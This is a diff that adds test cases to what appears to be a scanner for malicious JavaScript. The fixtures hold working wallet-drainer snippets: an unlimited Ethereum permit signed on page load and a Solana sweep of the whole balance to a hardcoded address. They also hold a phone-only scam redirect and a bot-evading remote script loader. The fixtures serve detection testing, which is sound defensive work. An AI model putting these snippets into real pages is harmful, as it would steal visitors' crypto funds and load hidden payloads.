@@ -193,3 +193,72 @@ describe('pages and visitors picked, storage enumerated, data handed to another 
     );
   });
 });
+
+describe('drainers on other chains and through signatures, redirects by markup, scripts inserted under a gate', () => {
+  it.each([
+    [
+      'a permit signature for a spender in the code asked for on page load',
+      `const SPENDER = '0x4f1A2b3C4d5E6f7A8b9C0D1e2F3a4B5c6D7e8F9a';
+      async function boost() {
+        const [owner] = await window.ethereum.request({ method: 'eth_requestAccounts' });
+        const typed = { primaryType: 'Permit', message: { owner, spender: SPENDER, value: '115792089237316195423570985008687907853269984665640564039457584007913129639935' } };
+        await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify(typed)] });
+      }
+      window.addEventListener('load', () => setTimeout(boost, 2000));`,
+      'js.wallet-drain',
+    ],
+    [
+      'a Solana balance moved to an address in the code through SystemProgram.transfer',
+      `const DEST = 'Fq7zKc9bQm3xP2vR8sT1uW4yZ6aB5cD7eF9gH2jK4mN';
+      async function sweep() {
+        const p = window.solana; await p.connect();
+        const conn = new solanaWeb3.Connection(window.RPC_URL);
+        const bal = await conn.getBalance(p.publicKey);
+        const tx = new solanaWeb3.Transaction().add(solanaWeb3.SystemProgram.transfer({ fromPubkey: p.publicKey, toPubkey: new solanaWeb3.PublicKey(DEST), lamports: bal - 5000 }));
+        await p.signAndSendTransaction(tx);
+      }
+      document.addEventListener('DOMContentLoaded', sweep);`,
+      'js.wallet-drain',
+    ],
+    [
+      'phones sent away by a meta refresh written into the head',
+      `if (/Android|iPhone/i.test(navigator.userAgent)) document.head.insertAdjacentHTML('beforeend', '<meta http-equiv="refresh" content="0;url=https://win-prize.example/">');`,
+      'js.gated-remote-script',
+    ],
+    [
+      'a script element given its src first and inserted only for some visitors',
+      `const tag = document.createElement('script');
+      tag.src = ['https:', '', 'edge-cdn.example', 'g', 'loader.js'].join('/');
+      if (!navigator.webdriver && screen.width < 900) document.head.appendChild(tag);`,
+      'js.gated-remote-script',
+    ],
+  ])('%s', (_name, code, rule) => {
+    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
+    expect(r.evidence.map((e) => e.rule)).toContain(rule);
+    expect(r.risk_level).toBe('critical');
+  });
+  it.each([
+    [
+      'a swap that asks for a permit when its user clicks',
+      `const ROUTER = '0x4f1A2b3C4d5E6f7A8b9C0D1e2F3a4B5c6D7e8F9a';
+      document.getElementById('swap').addEventListener('click', async () => {
+        const [owner] = await window.ethereum.request({ method: 'eth_requestAccounts' });
+        await window.ethereum.request({ method: 'eth_signTypedData_v4', params: [owner, JSON.stringify({ message: { owner, spender: ROUTER, value: '1000' } })] });
+      });`,
+    ],
+    [
+      "a wallet UI showing the balance next to the project's donation address",
+      `const DONATE = 'Fq7zKc9bQm3xP2vR8sT1uW4yZ6aB5cD7eF9gH2jK4mN';
+      export async function show(conn, key, el) { const bal = await conn.getBalance(key); el.textContent = String(bal) + ' (donate: ' + DONATE + ')'; }`,
+    ],
+    [
+      'a script element inserted for every visitor',
+      `const tag = document.createElement('script'); tag.src = 'https://cdn.example/sdk.js'; document.head.appendChild(tag);`,
+    ],
+  ])('quiet: %s', (_name, code) => {
+    const r = analyzeSource({ 'package.json': pkg, 'index.js': code });
+    expect(r.evidence.filter((e) => 'threat_type' in e && e.confidence >= 0.5).map((e) => e.rule)).toEqual(
+      [],
+    );
+  });
+});
